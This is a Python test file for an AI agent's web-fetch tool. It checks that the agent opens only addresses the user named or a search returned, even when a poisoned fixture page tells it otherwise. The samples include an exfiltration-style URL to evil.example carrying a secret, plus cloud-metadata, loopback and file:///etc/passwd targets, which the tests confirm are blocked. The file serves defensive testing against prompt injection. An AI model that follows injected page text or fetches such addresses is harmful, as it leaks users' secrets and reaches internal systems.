"""Reading pages: only those that the user or a search has named, whatever a page says."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.reasoning.agents.asking import context, of_kind, outputs
from tests.reasoning.documents.files import write_pdf
from tests.reasoning.web.server import Asked, Reply, WebServer, serving
from visavis.events import CodedError
from visavis.reasoning.agents.base import Cite
from visavis.reasoning.agents.web_fetch import PART_CHARACTERS, WebFetch
from visavis.reasoning.agents.web_search import WebSearch
from visavis.reasoning.mind import Exchange, Question
from visavis.reasoning.web.backends.fake import FakeSearch
from visavis.reasoning.web.fetch import Fetcher
from visavis.reasoning.web.search import Found

POISONED = (Path(__file__).parents[1] / "web/pages/poisoned.html").read_text()
LONG = "<title>Long</title><main>" + "".join(f"<p>Paragraph {n} of many.</p>" for n in range(1_000)) + "</main>"


def _answer(asked: Asked) -> Reply:
    return {"/": Reply(POISONED), "/long": Reply(LONG), "/empty": Reply("<script>app()</script>")}.get(
        asked.path, Reply("no", 404)
    )


@pytest.fixture
async def server() -> AsyncIterator[WebServer]:
    async with serving(_answer) as running:
        yield running


@pytest.fixture
async def agent(server: WebServer) -> AsyncIterator[WebFetch]:
    fetching = WebFetch(Fetcher([server.host]))
    yield fetching
    await fetching.close()


async def _code(agent: WebFetch, url: str, question: Question, part: int = 1) -> str:
    with pytest.raises(CodedError) as caught:
        await outputs(agent, {"url": url, "part": part}, context(question))
    return caught.value.code


async def test_a_page_that_the_user_names_is_read_and_cited(server: WebServer, agent: WebFetch) -> None:
    found = await outputs(agent, {"url": server.url()}, context(f"What is on {server.url()}?"))
    cited = of_kind(Cite, found)[0]
    assert cited.text.startswith(f"Opening hours \u2013 The Harbor Museum, {server.url()}:\n# Opening hours")
    assert (cited.source.kind, cited.source.url) == ("agent", server.url())
    assert "POISON" not in cited.text


async def test_addresses_of_the_conversation_are_known(server: WebServer, agent: WebFetch) -> None:
    earlier = [Exchange("user", f"I like {server.url()}", "r1"), Exchange("assistant", "Nice.", "r1")]
    assert await outputs(agent, {"url": server.url("")}, context(Question("Read it to me", earlier)))


async def test_addresses_that_a_search_has_found_are_known(server: WebServer, agent: WebFetch) -> None:
    question = Question("When is the museum open?")
    assert await _code(agent, server.url(), question) == "web.not_seen"
    search = WebSearch(FakeSearch([Found("Museum", server.url(), "opening hours of the museum")]))
    await outputs(search, {"query": "museum"}, context(question))
    assert await outputs(agent, {"url": server.url()}, context(question))


@pytest.mark.parametrize("path", ["/?q=secret", "/secret", "/;secret", "/%2e%2e/", "/?"])
async def test_the_address_has_to_be_known_to_the_letter(server: WebServer, agent: WebFetch, path: str) -> None:
    """A model that was told to put a secret into an address of a known server cannot do so."""
    asked = Question(f"What is on {server.url()}?")
    assert await _code(agent, server.url(path), asked) == "web.not_seen"
    assert not server.asked


async def test_what_an_answer_or_a_page_says_is_not_known(server: WebServer, agent: WebFetch) -> None:
    """The poisoned page names https://evil.example/; that the virtual human repeats it changes nothing."""
    asked = Question(
        f"What is on {server.url()}?",
        [Exchange("assistant", "See https://evil.example/ and " + server.url("/long"), "r1")],
    )
    found = await outputs(agent, {"url": server.url()}, context(asked))
    assert "https://evil.example/" in of_kind(Cite, found)[0].text
    assert await _code(agent, "https://evil.example/?q=SECRET", asked) == "web.not_seen"
    assert await _code(agent, "https://evil.example/", asked) == "web.not_seen"
    assert await _code(agent, server.url("/long"), asked) == "web.not_seen"
    assert asked.situation.addresses == set()


async def test_that_the_user_names_a_private_address_does_not_open_it(agent: WebFetch) -> None:
    for url, code in [
        ("http://169.254.169.254/", "web.address_forbidden"),
        ("http://127.0.0.1/", "web.address_forbidden"),
        ("file:///etc/passwd", "web.scheme"),
    ]:
        assert await _code(agent, url, Question(f"read {url}")) == code


async def test_long_pages_come_in_parts(server: WebServer, agent: WebFetch) -> None:
    question = Question(server.url("/long"))
    parts = [
        of_kind(Cite, await outputs(agent, {"url": server.url("/long"), "part": part}, context(question)))[0].text
        for part in (1, 2)
    ]
    assert parts[0].startswith("Long (part 1 of 4)")
    assert all(len(part) < PART_CHARACTERS + 200 for part in parts)
    assert parts[0] != parts[1]
    assert await _code(agent, server.url("/long"), question, 9) == "web.no_such_part"


async def test_pages_without_text_and_errors_are_told(server: WebServer, agent: WebFetch) -> None:
    assert await _code(agent, server.url("/empty"), Question(server.url("/empty"))) == "web.empty"
    assert await _code(agent, server.url("/gone"), Question(server.url("/gone"))) == "web.status"


async def test_pdf_files_are_read_and_broken_ones_are_told(tmp_path: Path) -> None:
    pdf = write_pdf(tmp_path / "a.pdf", [["The ferry leaves at noon."], ["It comes back at six."]], title="Ferries")
    bodies = {"/a": pdf.read_bytes(), "/broken": b"%PDF-1.7 nonsense"}
    async with serving(lambda asked: Reply(bodies[asked.path], content_type="application/pdf")) as server:
        agent = WebFetch(Fetcher([server.host]))
        found = await outputs(agent, {"url": server.url("/a")}, context(server.url("/a")))
        assert await _code(agent, server.url("/broken"), Question(server.url("/broken"))) == "document.malformed"
        await agent.close()
    cited = of_kind(Cite, found)[0]
    assert cited.source.title == "Ferries"
    assert "The ferry leaves at noon.\nIt comes back at six." in cited.text
